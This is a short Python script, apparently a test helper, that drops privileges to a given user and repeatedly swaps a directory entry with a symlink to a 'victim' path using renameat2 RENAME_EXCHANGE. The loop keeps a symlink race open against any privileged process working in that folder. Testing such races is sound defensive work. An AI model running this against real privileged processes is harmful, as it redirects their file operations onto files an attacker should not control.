"""Puts a link in the place of a folder and takes it away again, over and over, until it is killed.

usage: swap_folder.py UID SHELF VICTIM FOLDER NAME MILLISECONDS

Opens the folder, and a shelf on the same file system, and then is the user UID, as somebody would be who owns the
folder and has opened it while it could be reached. Says "ready" when it begins. Waits for as long as MILLISECONDS after each.
"""

import ctypes
import os
import sys
import time

uid, shelf, victim, folder, name, pause = int(sys.argv[1]), *sys.argv[2:]
RENAME_EXCHANGE = 2
renameat2 = ctypes.CDLL(None, use_errno=True).renameat2

here = os.open(folder, os.O_RDONLY | os.O_DIRECTORY)
there = os.open(shelf, os.O_RDONLY | os.O_DIRECTORY)
os.setgroups([])
os.setgid(uid)
os.setuid(uid)
os.symlink(victim, "link", dir_fd=there)
print("ready", flush=True)
while True:
    renameat2(here, name.encode(), there, b"link", RENAME_EXCHANGE)
    time.sleep(int(pause) / 1000)
